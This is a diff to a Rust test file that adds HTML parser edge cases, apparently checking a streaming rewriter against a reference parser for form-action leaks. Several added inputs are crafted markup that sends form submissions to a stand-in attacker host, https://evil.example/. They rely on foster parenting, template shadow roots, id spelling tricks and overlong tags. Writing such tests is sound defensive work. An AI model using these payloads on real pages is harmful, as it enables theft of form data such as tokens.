@@ -405,6 +405,12 @@ fn hard_cases_match_the_oracle() {
     let huge_input = format!(
         "<form id=f action=/p></form><input type=submit form=f formaction=https://evil.example/ data-x=\"{long}\">"
     );
+    let huge_form_before = format!(
+        "<form id=x action=https://evil.example/ data-x=\"{long}\"><button>go</button></form><table><form id=x action=/save></form></table>"
+    );
+    let huge_form_after = format!(
+        "<table><form id=x action=/save></form><div><form id=x action=https://evil.example/ data-x=\"{long}\"><button>go</button></form></div></table>"
+    );
     let huge_base = format!(
         "<a href=/early>e</a><base href=/app/ data-x=\"{long}\"><a href=x>x</a><form action=y></form>"
     );
@@ -506,6 +512,9 @@ fn hard_cases_match_the_oracle() {
         ("a select opened in template contents ends with them", "<template><select></template><form>"),
         ("</select> in template contents leaves the select around them open",
             "text <select><template shadowrootmode=open></select></template><form>"),
+        ("LEAK: a form in a select in a template's token form: the input closes both and joins the token form",
+            "<template shadowrootmode=open><form action=/local><select><form><input type=submit formaction=https://evil.example/steal>"),
+        ("the same with a same-origin formaction", "<template shadowrootmode=open><form><select><form><input type=submit formaction=/x>"),
         ("meta charset before base", "<meta charset=utf-8><base href=/app/><a href=x>x</a>"),
         ("a without href before base", "<a name=top></a><base href=/app/><a href=x>x</a>"),
         ("</form> inside svg (ignored)", "<svg></form><a href=/x>svg link</a></svg>"),
@@ -531,6 +540,18 @@ fn hard_cases_match_the_oracle() {
         ("meta tag longer than MAX_CARRY", &huge_meta),
         ("button tag longer than MAX_CARRY", &huge_button),
         ("base tag longer than MAX_CARRY", &huge_base),
+        ("LEAK: a form tag too long to read before a table form with that id", &huge_form_before),
+        ("LEAK: an earlier form's id spelled with a reference the browser reads as the table form's",
+            "<form id='x&#128;' action=https://evil.example/><button>go</button></form><table><form id='x\u{20ac}' action=/save></form></table>"),
+        ("LEAK: an earlier form's id with CR LF, the table form's with LF",
+            "<form id='x\r\n' action=https://evil.example/><button>go</button></form><table><form id='x\n' action=/save></form></table>"),
+        ("LEAK: a later form's id spelled otherwise, foster-parented first",
+            "<table><form id='x\u{20ac}' action=/save></form><div><form id='x&#128;' action=https://evil.example/><button>go</button></form></div></table>"),
+        ("LEAK: a form with its own id in a table inside foreignObject, moved by the adoption agency",
+            "<form action=https://evil.example/><div></form><svg><foreignObject><b><div><table><form id=x action=/save></form></table></b></foreignObject></svg><button>go</button>"),
+        ("the base copy keeps references the rewriter does not decode",
+            "<table><td><base href='/caf&eacute;/'><a href=/abs>a</a><tr><base href=/y/>"),
+        ("LEAK: a form tag too long to read after a table form whose id ties its input", &huge_form_after),
         ("LEAK: an input tag longer than MAX_CARRY joins a token form with form= and stays enabled",
             &huge_input),
         ("formatting copies and a link of the same attributes in the form",
